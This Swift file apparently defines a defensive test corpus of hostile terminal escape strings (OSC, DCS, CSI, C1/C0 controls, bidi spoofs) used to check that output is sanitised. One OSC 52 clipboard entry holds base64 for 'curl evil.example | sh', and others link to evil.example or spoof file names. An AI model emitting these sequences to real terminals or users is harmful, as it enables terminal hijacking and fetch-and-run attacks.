/// One hostile string: text a file or another program could put in a store, and the raw run
/// of it that must never reach the terminal. Each carries a unique marker (PWN01, ...) right
/// after its escape introducer, or right before its control character, so that the marker
/// shows where its text was drawn and a leak is told from ncurses' own escape sequences.
struct HostileString {
    let marker: String
    let text: String
    /// The raw run (control characters included) whose appearance in the output is a leak.
    let leak: String
}

/// At least 40 strings that try to take the terminal over or to mislead the eye: OSC (title,
/// hyperlink, clipboard, palette), DCS, APC, PM, SOS, CSI, C1 controls as single scalars, C0
/// controls, bidi and invisible characters, combining stacks, wide and joined characters.
enum EscapeCorpus {
    static let strings: [HostileString] = {
        var strings: [HostileString] = []
        /// `introducer` + marker + `rest`: the introducer and the marker together are the leak.
        func afterIntroducer(_ introducer: String, _ rest: String = "") {
            let marker = String(format: "PWN%02d", strings.count + 1)
            strings.append(HostileString(marker: marker, text: introducer + marker + rest, leak: introducer + marker))
        }
        /// marker + `before` + `control` + `after`: the run up to and with the control is the leak.
        func aroundControl(_ before: String, _ control: String, _ after: String) {
            let marker = String(format: "PWN%02d", strings.count + 1)
            strings.append(HostileString(marker: marker, text: marker + before + control + after, leak: marker + before + control))
        }
        /// Text that is not an escape at all (wide, joined, combining): drawn, never a leak.
        func harmless(_ text: String) {
            let marker = String(format: "PWN%02d", strings.count + 1)
            strings.append(HostileString(marker: marker, text: marker + " " + text, leak: ""))
        }
        let escape = "\u{1B}"
        let bell = "\u{07}"
        let stringTerminator = "\u{1B}\\"
        // OSC: window title, hyperlink, clipboard write, palette, working directory, iTerm file.
        afterIntroducer(escape + "]0;", " owned title" + bell)
        afterIntroducer(escape + "]2;", " owned title" + stringTerminator)
        afterIntroducer(escape + "]8;;", "https://evil.example" + stringTerminator + "click me" + escape + "]8;;" + stringTerminator)
        afterIntroducer(escape + "]52;c;", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + bell)
        afterIntroducer(escape + "]4;1;", "rgb:ff/00/00" + bell)
        afterIntroducer(escape + "]7;", "file:///etc/passwd" + bell)
        afterIntroducer(escape + "]1337;", "File=name=eC5zaA==:AAAA" + bell)
        afterIntroducer(escape + "]104;", bell)
        afterIntroducer(escape + "]0;", " never terminated")
        afterIntroducer(escape + escape + "]2;", " doubled escape" + bell)
        // DCS (status request, sixel), APC (kitty graphics), PM, SOS.
        afterIntroducer(escape + "P", "$q\"p" + stringTerminator)
        afterIntroducer(escape + "P0;0;0q", "#0;2;0;0;0~~" + stringTerminator)
        afterIntroducer(escape + "_", "Gf=100,a=T;AAAA" + stringTerminator)
        afterIntroducer(escape + "^", " privacy message" + stringTerminator)
        afterIntroducer(escape + "X", " start of string" + stringTerminator)
        // CSI: clear, colours and blink, cursor moves, modes, reports that make the terminal answer.
        afterIntroducer(escape + "[2J", " cleared")
        afterIntroducer(escape + "[31;1;5m", " red blinking")
        afterIntroducer(escape + "[10;10H", " moved")
        afterIntroducer(escape + "[?1049l", " left the alternate screen")
        afterIntroducer(escape + "[6n", " cursor report")
        afterIntroducer(escape + "[c", " device attributes")
        afterIntroducer(escape + "[21t", " title report")
        afterIntroducer(escape + "[2K", " erased line")
        afterIntroducer(escape + "[1;2r", " scroll region")
        afterIntroducer(escape + "[?2004l", " paste mode off")
        afterIntroducer(escape + "c", " full reset")
        // C1 controls as single scalars: CSI (0x9B), OSC (0x9D), DCS (0x90), NEL (0x85).
        afterIntroducer("\u{9B}31m", " C1 CSI")
        afterIntroducer("\u{9D}0;", " C1 OSC\u{9C}")
        afterIntroducer("\u{90}", " C1 DCS\u{9C}")
        aroundControl(" next", "\u{85}", "line")
        // C0 controls: BEL, CR, LF, BS, NUL, TAB, DEL, VT and FF.
        aroundControl(" ring", bell + bell, " bell")
        aroundControl(" innocent", "\r", "EVIL overwrite")
        aroundControl(" line one", "\n", "line two")
        aroundControl(" abc", "\u{08}\u{08}\u{08}", "xyz")
        aroundControl(" a", "\u{00}", "b after NUL")
        aroundControl(" column", "\t", "tabbed")
        aroundControl(" delete", "\u{7F}", "x")
        aroundControl(" vertical", "\u{0B}\u{0C}", "feeds")
        // Bidi and invisible characters: reorder or hide what is shown.
        aroundControl(" invoice", "\u{202E}", "fdp.exe")
        aroundControl(" isolate", "\u{2066}", "x\u{2069}")
        aroundControl(" zero", "\u{200B}", "width")
        aroundControl(" joiners", "\u{FEFF}\u{2060}", "hidden")
        aroundControl(" letter mark", "\u{061C}\u{200F}", "abc")
        aroundControl(" separator", "\u{2028}", "paragraph\u{2029}")
        // Not escapes, but hard to draw: combining stacks, CJK, joined emoji, flags, length.
        harmless("Z\u{0335}\u{0321}\u{031B}\u{0310}\u{0357}\u{0358}\u{0359}\u{035A}\u{0300}\u{0301}\u{0302}\u{0303}a\u{0336}\u{0337}\u{0338}lgo")
        harmless("東京精密株式会社の取引先担当者")
        harmless("👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈")
        harmless("🇯🇵🇺🇸 flags")
        harmless(String(repeating: "W", count: 2000))
        return strings
    }()
}
